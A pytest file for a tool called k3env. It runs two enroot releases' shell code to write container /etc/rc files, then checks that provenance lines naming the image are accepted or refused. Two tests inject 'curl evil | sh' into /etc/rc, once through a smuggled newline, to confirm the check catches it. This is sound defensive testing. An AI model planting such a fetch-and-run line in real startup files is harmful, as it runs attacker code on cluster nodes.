"""enroot's own ``docker::configure``, old and new release side by side, against what k3env
renders and checks: the /etc/rc, /etc/environment and /etc/fstab each release writes for a
k3env image config pass ``export --check``'s comparison, and the provenance line enroot main
(8ea147d, the change enroot 4.2.0 ships: ``# enroot-provenance: <uri>`` first) writes is checked
to name this image, and required or refused as the cluster profile's ``[runtime.enroot]`` says.
enroot 4.1.2 and main are read from ``../shared/upstream`` (their sha256 as its README gives
them; scripts/host-setup.sh finds it the same way); their shell runs here, with the host's bash
and jq, on a config file: a daemon import calls ``docker::configure`` as
``docker::daemon::import`` does, a registry import runs enroot's own ``docker::_parse_uri`` and
``docker::_prepare_layers`` (the download, layer extraction and zstd stubbed: no registry).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import tarfile
from dataclasses import replace
from pathlib import Path

import pytest

from k3env.config.cluster import RuntimePin, load_cluster
from k3env.errors import ConfigError
from k3env.handoff.enroot import enroot_files
from k3env.handoff.enroot_uri import MAX_URI, Release, ThisImage, names, parse_uri, release_of
from k3env.handoff.squashfs_check import PROVENANCE_GATE, _rc_items
from k3env.hashing import file_sha256
from k3env.verdict import FAILED, PASSED, Gate

from .conftest import REPO, upstream_dir

RELEASES = {"4.1.2": "enroot-4.1.2.tar.gz", "main-8ea147d": "enroot-main-8ea147d.tar.gz"}
MAIN = "8ea147d337da60cb1c557140f3a85cdf0d620968"
CONFIG = {
    "Env": ["PATH=/usr/local/bin:/usr/bin:/bin", "VLLM_USE_V1=1"],
    "Labels": {"org.k3env.provenance": "sha256:" + "ab" * 32, "org.k3env.image": "kimi-k3-dynamo"},
    "Entrypoint": ["/opt/entry.sh"],
    "Cmd": ["vllm", "serve", "it's"],
    "WorkingDir": "/workspace",
    "Volumes": {"/data": {}},
}
REF = "k3env/kimi-k3-dynamo:9911aa00bb11cc22dd33"
REGISTRY = "127.0.0.1:5000"
CONFIG_DIGEST, MANIFEST, OTHER = ("sha256:" + c * 64 for c in "cdf")
THIS = ThisImage(
    reference=REF,
    digests=(("config digest", CONFIG_DIGEST),),
    pushed=f"{REGISTRY}/{REF}",
    pushed_digests=(("manifest digest", MANIFEST),),
)
NOT_PUSHED = replace(THIS, pushed=None, pushed_digests=())
EXPECTED = next(data for p, data, _ in enroot_files(CONFIG) if p == "etc/rc").decode()


@pytest.fixture(scope="session")
def enroot_src(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Each release's ``src/``, extracted once a session, its archive's sha256 the one
    ../shared/upstream/README.md gives."""
    upstream = upstream_dir(RELEASES["4.1.2"])
    if upstream is None or shutil.which("jq") is None:
        pytest.skip("../shared/upstream's enroot sources and jq (scripts/host-setup.sh)")
    readme = (upstream / "README.md").read_text()
    out = {}
    for release, name in RELEASES.items():
        (sha,) = re.findall(rf"^\| `{re.escape(name)}` \|.*\| ([0-9a-f]{{64}}) \|$", readme, re.M)
        assert file_sha256(upstream / name) == sha, f"{name} is not the archive README names"
        tmp = tmp_path_factory.mktemp(release)
        with tarfile.open(upstream / name) as tar:
            tar.extractall(tmp, filter="data")
        (out[release],) = (p.parent for p in tmp.glob("*/src/docker.sh"))
    return out


# A registry import, as docker::import runs it (its two lines), past what needs a registry.
_REGISTRY_IMPORT = """
docker::_download() { printf '%s\\n\\n' config.zst; }
parallel() { :; }; zstd() { cp "$CONFIG" config; }
docker::_parse_uri "$1" | { common::read -r user; common::read -r registry; common::read -r image;
                            common::read -r tag; }
docker::_prepare_layers "$user" "$registry" "$image" "$tag" "" > /dev/null
"""


def _import(src: Path, tmp: Path, uri: str) -> Path:
    """The root filesystem enroot's own shell configures importing an image of ``CONFIG`` from
    ``uri`` (its /etc/rc, /etc/environment, /etc/fstab)."""
    work = tmp / f"import-{len(list(tmp.glob('import-*')))}"
    work.mkdir()
    (work / "config.json").write_text(json.dumps({"architecture": "amd64", "config": CONFIG}))
    env = {"PATH": os.environ["PATH"], "ENROOT_LIBRARY_PATH": str(src),
           "ENROOT_CACHE_PATH": str(work), "ENROOT_CONFIG_PATH": str(work),
           "CONFIG": str(work / "config.json"),
           # enroot's own defaults (its `enroot` script sets them before docker.sh is read)
           "ENROOT_TRANSFER_RETRIES": "0", "ENROOT_CONNECT_TIMEOUT": "30",
           "ENROOT_TRANSFER_TIMEOUT": "0", "ENROOT_MAX_PROCESSORS": "1"}  # fmt: skip
    if uri.startswith("docker://"):
        body, rootfs = _REGISTRY_IMPORT, work / "0"
    else:  # docker::daemon::import: `docker::configure rootfs config "${arch}" "${uri}"`
        body, rootfs = 'docker::configure rootfs "$CONFIG" "" "$1"', work / "rootfs"
    # enroot.in's own shell options: set -euo pipefail; shopt -s lastpipe
    script = f'shopt -s lastpipe; source "{src}/docker.sh"\n{body}'
    subprocess.run(["bash", "-euo", "pipefail", "-c", script, "import", uri], env=env, cwd=work,
                   check=True, capture_output=True)  # fmt: skip
    return rootfs


def _rc(src: Path, tmp: Path, uri: str) -> bytes:
    return (_import(src, tmp, uri) / "etc/rc").read_bytes()


def _gates(rc: bytes, this: ThisImage = THIS, release: Release | None = None) -> dict[str, Gate]:
    gates = _rc_items(EXPECTED, rc, this, release)
    assert len({g.name for g in gates}) == len(gates), gates
    return {g.name: g for g in gates}


def _profile(tmp: Path, version: str, commit: str | None) -> Release:
    """A cluster profile (b200-dgxc's) whose [runtime.enroot] names ``version``, read by k3env's
    own loader."""
    text = (REPO / "clusters/b200-dgxc.toml").read_text()
    said = f'version = "{version}"\n' + (f'commit = "{commit}"\n' if commit else "")
    text = re.sub(r"(\[runtime\.enroot\]\n)version = .*\ncommit = .*\n", rf"\g<1>{said}", text)
    path = tmp / f"cluster-{version}-{commit}.toml"
    path.write_text(text)
    return release_of(load_cluster(path))


@pytest.mark.parametrize("release", RELEASES)
def test_what_each_enroot_release_writes_passes_the_export_check(
    release: str, enroot_src: dict[str, Path], tmp_path: Path
) -> None:
    uri = f"dockerd://{REF}"
    rootfs = _import(enroot_src[release], tmp_path, uri)
    rc = (rootfs / "etc/rc").read_bytes()
    ours = {p: data for p, data, _ in enroot_files(CONFIG)}
    assert (rootfs / "etc/environment").read_bytes() == ours["etc/environment"]
    assert (rootfs / "etc/fstab").read_bytes() == ours["etc/fstab"]
    gates = _gates(rc)
    assert [g.status for g in gates.values()] == [PASSED, PASSED], gates
    line = gates[PROVENANCE_GATE].detail
    if release == "4.1.2":
        assert rc == ours["etc/rc"]
        assert line == "no provenance line: /etc/rc as enroot < 4.2 writes it (or k3env export)"
    else:  # the line enroot 4.2 adds, and nothing else; the evidence names it
        assert rc.startswith(f"# enroot-provenance: {uri}\n".encode())
        assert line == (f"first line '# enroot-provenance: {uri}', as enroot >= 4.2 writes it: "
                        f"names this image by its reference {REF}")  # fmt: skip
        # A line added after it is still refused: only the first line is enroot's.
        tampered = rc.replace(b"\nmkdir", b"\ncurl evil | sh\nmkdir", 1)
        gates = _gates(tampered)
        assert gates["etc/rc"].status == FAILED and "curl evil" in gates["etc/rc"].detail


@pytest.mark.parametrize(
    ("given", "how"),
    [
        (
            f"docker://{REGISTRY}/{REF.split(':')[0]}@{MANIFEST}",
            f"pushed manifest digest {MANIFEST}",
        ),
        (f"docker://{REGISTRY}#{REF}@{MANIFEST}", f"pushed manifest digest {MANIFEST}"),
        (f"docker://{REGISTRY}/{REF}", f"pushed reference {REGISTRY}/{REF}"),
        (f"dockerd://{REGISTRY}/{REF}", f"pushed reference {REGISTRY}/{REF}"),
        (f"dockerd://{CONFIG_DIGEST}", f"config digest {CONFIG_DIGEST}"),
        (f"dockerd://{CONFIG_DIGEST[7:]}", f"config digest {CONFIG_DIGEST}"),
        (f"podman://{REF}", f"reference {REF}"),
    ],
)
def test_enroot_mains_line_names_this_image_by_its_reference_or_a_recorded_digest(
    given: str, how: str, enroot_src: dict[str, Path], tmp_path: Path
) -> None:
    """The URI as enroot main writes it (a registry URI rewritten to docker://R#IMAGE:TAG, the
    digest in the tag's place) names this image by what this host recorded of it."""
    rc = _rc(enroot_src["main-8ea147d"], tmp_path, given)
    gates = _gates(rc)
    assert [g.status for g in gates.values()] == [PASSED, PASSED], gates
    assert gates[PROVENANCE_GATE].detail.endswith(f"names this image by its {how}")
    if given.startswith("docker://"):  # enroot's own rewriting, as its line 333 writes it
        written = rc.split(b"\n", 1)[0].decode().removeprefix("# enroot-provenance: ")
        assert written in (f"docker://{REGISTRY}#k3env/kimi-k3-dynamo:{MANIFEST}",
                           f"docker://{REGISTRY}#{REF}")  # fmt: skip


@pytest.mark.parametrize(
    ("given", "this", "why"),
    [
        (f"dockerd://k3env/kimi-k3-dynamo:{'0' * 20}", THIS, "another reference"),
        (f"dockerd://{OTHER}", THIS, "a digest no build or push record of this image here gives"),
        (f"docker://{REGISTRY}/k3env/kimi-k3-dynamo@{OTHER}", THIS,
         f"{OTHER}: neither the tag nor a digest it was pushed under"),
        (f"docker://10.9.9.9:5000/{REF}", THIS, f"registry 10.9.9.9:5000, not {REGISTRY}"),
        (f"docker://{REGISTRY}/k3env/kimi-k3-vllm@{MANIFEST}", THIS,
         "repository k3env/kimi-k3-vllm, not k3env/kimi-k3-dynamo"),
        (f"docker://{REGISTRY}/{REF}", NOT_PUSHED, "this host has no record of pushing this one"),
        (f"docker://{REGISTRY}/{REF.split(':')[0]}@{MANIFEST}", NOT_PUSHED,
         "this host has no record of pushing this one"),
    ],
)  # fmt: skip
def test_a_line_naming_another_image_fails_naming_both(
    given: str, this: ThisImage, why: str, enroot_src: dict[str, Path], tmp_path: Path
) -> None:
    rc = _rc(enroot_src["main-8ea147d"], tmp_path, given)
    gates = _gates(rc, this)
    assert gates["etc/rc"].status == PASSED
    gate = gates[PROVENANCE_GATE]
    assert gate.status == FAILED
    assert why in gate.detail and f"this image is {REF}" in gate.detail, gate.detail


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("dockerd://k3env/kimi-k3-dynamo\x00:9911", "control character \\x00"),
        ("dockerd://k3env/kimi-k3-dynamo:9911\r", "control character \\x0d"),
        ("dockerd://" + "k" * MAX_URI, f"over the {MAX_URI} read"),
        (f"docker://user@{REGISTRY}#{REF}", "not docker://REGISTRY#IMAGE:TAG"),
        (f"docker://{REGISTRY}/{REF}", "not docker://REGISTRY#IMAGE:TAG"),  # enroot rewrites it
        (f"docker://{REGISTRY}#k3env/kimi-k3-dynamo", "names no tag or digest"),
        (f"docker://{REGISTRY}#k3env/kimi-k3-dynamo:sha256:abc", "not sha256: and 64 hex"),
        (f"docker://{REGISTRY}#K3ENV/Kimi:{MANIFEST}", "is not a repository enroot takes"),
        (f"dockerd://{REF.split(':')[0]}@{MANIFEST}", "not a dockerd://REF enroot imports"),
        (f"https://{REGISTRY}/{REF}", "not a docker://, dockerd:// or podman:// URI"),
        ("", "not a docker://, dockerd:// or podman:// URI"),
    ],
)
def test_a_line_enroot_does_not_write_is_refused_by_name(line: str, why: str) -> None:
    rc = f"# enroot-provenance: {line}\n{EXPECTED}".encode()
    gate = _gates(rc)[PROVENANCE_GATE]
    assert gate.status == FAILED and why in gate.detail, gate.detail
    assert "\x00" not in gate.detail and "\r" not in gate.detail
    with pytest.raises(ConfigError, match=re.escape(why)):
        names(parse_uri(f"# enroot-provenance: {line}"), THIS)


def test_a_newline_in_the_uri_is_a_line_of_its_own_and_refused() -> None:
    """enroot's daemon import refuses such a URI ([[:alnum:]/._:-]+), so only a hand can write
    it; what follows the newline would run at `enroot start`."""
    rc = f"# enroot-provenance: dockerd://{REF}\ncurl evil | sh\n{EXPECTED}".encode()
    gates = _rc_items(EXPECTED, rc, THIS)
    assert any(g.status == FAILED and "curl evil" in g.detail for g in gates), gates


@pytest.mark.parametrize(
    ("wrote", "version", "commit", "status", "said"),
    [
        ("4.1.2", "4.1.2", None, PASSED, "no provenance line: /etc/rc as enroot 4.1.2"),
        ("4.1.2", "4.2.0", None, FAILED, "no provenance line: removed, or the file is not that "
         "enroot's import"),
        ("4.1.2", "4.1.2", MAIN, FAILED, "; enroot 4.1.2, main 8ea147d (enroot 4.2's change) ("),
        ("main-8ea147d", "4.1.2", "bd51f53b6fa954805ae3e1985c5dc7594ff66d05", FAILED,
         "a provenance line: tampering, or the profile's [runtime.enroot] is out of date"),
        ("main-8ea147d", "4.1.2", MAIN, PASSED, "main 8ea147d (enroot 4.2's change)"),
        ("main-8ea147d", "4.2.0", None, PASSED, f"names this image by its reference {REF}"),
    ],
)  # fmt: skip
def test_the_cluster_profile_says_which_release_imported_the_file(
    wrote: str, version: str, commit: str | None, status: str, said: str,
    enroot_src: dict[str, Path], tmp_path: Path,
) -> None:  # fmt: skip
    release = _profile(tmp_path, version, commit)
    rc = _rc(enroot_src[wrote], tmp_path, f"dockerd://{REF}")
    gate = _gates(rc, THIS, release)[PROVENANCE_GATE]
    assert gate.status == status and said in gate.detail, gate.detail
    assert "clusters" not in gate.detail and f"{tmp_path}/cluster-" in gate.detail


def test_a_profile_without_runtime_enroot_is_refused_with_export_check(tmp_path: Path) -> None:
    text = (REPO / "clusters/b200-dgxc.toml").read_text()
    path = tmp_path / "no-enroot.toml"
    path.write_text(re.sub(r"\[runtime\.enroot\]\nversion = .*\ncommit = .*\n", "", text))
    with pytest.raises(ConfigError, match="does not say which enroot its nodes run") as e:
        release_of(load_cluster(path))
    assert e.value.where == f"{path} [runtime.enroot]"


def test_the_profiles_enroot_is_read_as_k3env_reads_the_pin() -> None:
    for version, commit, writes in (("4.1.2", None, False), ("4.2.0", None, True),
                                    ("4.10", None, True), ("4.1.2", MAIN, True)):  # fmt: skip
        pin = RuntimePin(name="enroot", version=version, commit=commit)
        assert Release(pin=pin, profile="p.toml").writes_line is writes
